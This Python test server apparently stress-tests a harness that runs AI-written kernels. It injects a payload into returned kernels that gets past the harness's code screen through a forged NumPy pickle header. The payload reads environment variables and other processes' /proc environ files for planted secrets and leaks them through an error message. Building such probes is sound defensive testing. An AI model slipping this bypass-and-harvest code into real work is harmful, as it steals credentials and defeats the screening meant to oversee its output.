"""A model whose kernels look for secrets where they run, and report what they find as an error.

The Messages model's kernel does so when it is imported, the Responses model's when it is called for its results.  Both
reach `os` past the screen of a candidate's text, as one must expect of somebody.  A repair is an ordinary kernel.  What
arrives is appended to a file beside the log: headers, which hold keys, apart.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import kernel_server
from kernel_server import fault_server

PRY = """
import numpy
import torch


class _File:
    def __init__(self, content):
        self.content = content

    def read(self, count=None):
        taken, self.content = self.content[:count], self.content[count:] if count else b""
        return taken

    def readline(self):
        return self.read(self.content.index(b"\\n") + 1)


def _reached(module, name):
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }\\n"
    array = bytes([147]) + b"NUMPY" + bytes([1, 0, len(head), 0]) + head
    return numpy.lib.format.read_array(_File(array + f"c{module}\\n{name}\\n.".encode()), allow_pickle=True)


def _text(name):
    try:
        return _reached("io", "open")(name).read()
    except Exception as error:
        return type(error).__name__


def _processes():
    try:
        return [name for name in _reached("os", "listdir")("/proc") if name.isdigit()]
    except PermissionError:
        return [str(number) for number in range(1, 300)]


def _pry():
    own = dict(_reached("os", "environ"))
    parents = [f"/proc/{_reached('os', 'getppid')()}/environ"]
    others = [f"/proc/{name}/environ" for name in _processes()]
    blocks = {name: _text(name) for name in ["/proc/self/environ", *parents, *others]}
    words = [word for block in blocks.values() for word in block.split(chr(0)) if "planted" in word]
    report = {
        "own": {name: value[:60] for name, value in own.items()},
        "self": blocks["/proc/self/environ"].strip(chr(0))[:60],
        "parent": blocks[parents[0]][:60],
        "tried": len(others),
        "planted": sorted(set(words))[:5],
    }
    told = _reached("zlib", "compress")(_reached("json", "dumps")(report).encode()).hex()
    raise RuntimeError("my environment: " + " ".join(sorted(own)) + " <<" + told + ">>")
"""


def prying(source: str, path: str) -> str:
    """A kernel's source that pries."""
    head, definition, rest = source.partition("\n\ndef kernel_function(x):\n")
    if path.endswith("/messages"):
        return head + PRY + "\n\n_pry()\n" + definition + rest
    return head + PRY + definition + "    if type(x) is torch.Tensor:\n        _pry()\n" + rest


class Server(fault_server.Server):
    """Serves kernels that pry."""

    def text(self, body: dict[str, Any], path: str) -> str:
        prompt = fault_server.prompt_of(body)
        with Path(f"{self.options.log}.bodies").open("a") as file:
            file.write(json.dumps(body) + "\n")
        answer = kernel_server.answer(body, path)
        if "## Kernel to improve" not in prompt:
            return answer
        before, fence, code = answer.partition("```python\n")
        return before + fence + prying(code, path)


if __name__ == "__main__":
    asyncio.run(fault_server.main(Server))
